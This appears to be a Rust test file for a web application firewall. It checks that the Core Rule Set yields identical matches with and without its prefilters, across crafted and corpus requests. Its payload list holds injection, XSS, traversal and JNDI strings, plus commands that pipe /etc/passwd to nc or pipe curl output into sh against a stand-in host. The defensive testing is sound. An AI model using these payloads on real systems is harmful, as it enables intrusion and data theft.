//! Rules answered beforehand are those that would not have matched: on the Core Rule Set, over many requests.
//!
//! The rules are data beside the repository, or where `CRS_DIR` says; so are the requests of `tests/waf/corpus`, beside
//! those that stand here.
use std::path::Path;
use std::sync::Arc;

use secbeat_waf::ruleset::Ruleset;
use secbeat_waf::seclang::read;
use secbeat_waf::transaction::{Budget, Evaluator, Persistent, Transaction};
use serde_json::Value;

use crate::disk::{Disk, folder};
use crate::world::{Exchange, SeesAll, begin, body, get, head};

/// Most requests of each file of the corpus: enough for every class, and over in seconds.
const REQUESTS_PER_FILE: usize = 400;

/// What rules look for, put into several places of a request.
const PIECES: [&str; 24] = [
    "ordinary words, with a comma",
    "1' or '1'='1' -- ",
    "-1 union select password from users",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "../../../../etc/passwd",
    "; cat /etc/passwd | nc 192.0.2.1 80",
    "$(curl http://192.0.2.1/a.sh | sh)",
    "<?php system($_GET['c']); ?>",
    "http://192.0.2.1/shell.txt?",
    "${jndi:ldap://192.0.2.1/a}",
    "{\"$where\": \"sleep(1000)\"}",
    "require('child_process').exec('id')",
    "*)(uid=*))(|(uid=*",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "\r\nSet-Cookie: a=b",
    "%252e%252e%252fetc%252fpasswd",
    "\u{ff1c}script\u{ff1e}",
    "sqlmap/1.5",
    "WAITFOR DELAY '0:0:5'",
    "a\0b",
    "powershell -enc SQBFAFgA",
    "#{7*7} {{7*7}} ${7*7}",
];

fn encoded(text: &str) -> String {
    text.bytes()
        .map(
            |byte| {
                if byte.is_ascii_alphanumeric() {
                    char::from(byte).to_string()
                } else {
                    format!("%{byte:02x}")
                }
            },
        )
        .collect()
}

/// What came of an exchange: matches with all that is told of them.
fn outcome(evaluator: &mut Evaluator, tx: &mut Transaction, exchange: &Exchange<'_>) -> Vec<String> {
    begin(evaluator, tx, None, exchange.time_unix_s);
    let is_refused = head(evaluator, tx, exchange).is_some() || body(evaluator, tx, exchange.body).is_some();
    evaluator.finish(tx, 9_000);
    let set = evaluator.ruleset().clone();
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    let mut told: Vec<String> = tx
        .matches(&set)
        .map(|m| format!("{} {}|{}|{}|{}", m.id, text(m.message), text(m.data), text(m.name), text(m.value)))
        .collect();
    told.push(format!("{is_refused} {:?}", tx.tx_number(&set, "blocking_inbound_anomaly_score")));
    told
}

struct Pair {
    quick: Evaluator,
    thorough: Evaluator,
    tx: Transaction,
    matches: usize,
    requests: usize,
}

impl Pair {
    fn compare(&mut self, exchange: &Exchange<'_>) {
        let quick = outcome(&mut self.quick, &mut self.tx, exchange);
        let thorough = outcome(&mut self.thorough, &mut self.tx, exchange);
        assert_eq!(quick, thorough, "{} {}", exchange.method, exchange.target);
        self.matches += quick.len() - 1;
        self.requests += 1;
    }
}

#[test]
fn core_rule_set_matches_the_same_with_and_without_its_filters() {
    let Some(rules) = folder("CRS_DIR", "crs") else { return };
    let mut configuration = read(&["crs-setup.conf.example", "*.conf"], &Disk(rules.join("rules"))).unwrap();
    configuration.settings.engine = secbeat_waf::seclang::ast::EngineMode::DetectionOnly;
    configuration.settings.request_body_access = true;
    let set = Arc::new(Ruleset::compile(&configuration).unwrap());
    let evaluator = || Evaluator::new(set.clone(), Arc::new(Persistent::default()), Budget::default());
    let mut pair =
        Pair { quick: evaluator(), thorough: evaluator(), tx: Transaction::new(), matches: 0, requests: 0 };
    pair.thorough.observe(Some(Box::new(SeesAll)));
    for piece in PIECES {
        let value = encoded(piece);
        pair.compare(&get(&format!("/page?q={value}&{value}=1")));
        pair.compare(&get(&format!("/{value}/index.php?a=1")));
        let form = [
            ("Host", "shop.example"),
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Accept", "*/*"),
        ];
        pair.compare(&Exchange {
            method: "POST",
            fields: &form,
            body: format!("a=1&text={value}").as_bytes(),
            ..get("/form")
        });
        let json =
            [("Host", "shop.example"), ("Content-Type", "application/json"), ("User-Agent", "Mozilla/5.0")];
        let text = serde_json::json!({"list": [1, piece], "name": piece}).to_string();
        pair.compare(&Exchange { method: "POST", fields: &json, body: text.as_bytes(), ..get("/api") });
        let xml = [("Host", "192.0.2.1"), ("Content-Type", "text/xml")];
        let text = format!("<a k=\"{value}\"><b>{value}</b></a>");
        pair.compare(&Exchange { method: "PUT", fields: &xml, body: text.as_bytes(), ..get("/soap") });
        let fields =
            [("Host", "shop.example"), ("User-Agent", piece), ("Cookie", &value), ("Referer", piece)];
        pair.compare(&Exchange { fields: &fields, ..get("/") });
    }
    from_corpus(&mut pair);
    println!("{} requests, {} matches, the same both ways", pair.requests, pair.matches);
    assert!(pair.matches > 300, "only {} matches", pair.matches);
}

/// Requests of the corpus, one in JSON a line.
fn from_corpus(pair: &mut Pair) {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/waf/corpus");
    for class in ["attacks", "ordinary"] {
        let Ok(entries) = std::fs::read_dir(folder.join(class)) else {
            println!("no requests of the corpus: {} is not there", folder.join(class).display());
            continue;
        };
        for entry in entries {
            let Ok(text) = std::fs::read_to_string(entry.unwrap().path()) else { continue };
            for line in text.lines().take(REQUESTS_PER_FILE) {
                let Ok(request) = serde_json::from_str::<Value>(line) else { continue };
                let word = |key: &str| request[key].as_str().unwrap_or_default().to_owned();
                let owned: Vec<(String, String)> = match &request["headers"] {
                    Value::Object(members) => members
                        .iter()
                        .map(|(name, value)| (name.clone(), value.as_str().unwrap_or_default().to_owned()))
                        .collect(),
                    Value::Array(pairs) => pairs
                        .iter()
                        .map(|pair| {
                            (
                                pair[0].as_str().unwrap_or_default().to_owned(),
                                pair[1].as_str().unwrap_or_default().to_owned(),
                            )
                        })
                        .collect(),
                    _ => Vec::new(),
                };
                let fields: Vec<(&str, &str)> =
                    owned.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
                let (method, target, sent) = (word("method"), word("uri"), word("body"));
                let exchange =
                    Exchange { method: &method, fields: &fields, body: sent.as_bytes(), ..get(&target) };
                pair.compare(&exchange);
            }
        }
    }
}
